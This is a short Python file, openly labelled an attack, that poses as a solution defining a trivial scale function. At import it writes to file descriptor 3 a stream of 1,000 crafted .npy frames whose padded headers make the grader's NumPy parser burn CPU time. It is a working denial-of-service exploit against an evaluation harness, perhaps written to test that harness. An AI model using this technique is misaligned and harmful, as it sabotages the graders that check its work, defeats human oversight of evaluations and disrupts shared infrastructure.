"""Attack: a case header announcing 64 arrays, then 1,000 array frames whose .npy headers NumPy's
own parser would accept (each a 9 KB literal for ast.literal_eval): seconds of the grader's CPU."""
import os
import struct

NAMES = ["a", "b"]


def frame(kind, payload):
    return struct.pack(">cI", kind, len(payload)) + payload


def crafted_npy():
    pad = ", ".join(["1.5"] * 1600)
    text = "{'descr': '<f8', 'fortran_order': False, 'shape': (2,), 'pad': [" + pad + "]}\n"
    header = text.encode("latin-1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + b"\0" * 16


names = ", ".join(f'"a{i}"' for i in range(64))
stream = frame(b"H", ('{"type": "case", "name": "scale \\u00b7 small", "arrays": [' + names + "]}").encode())
stream += frame(b"A", crafted_npy()) * 1000
os.write(3, stream)


def scale(x, k):
    return x * k
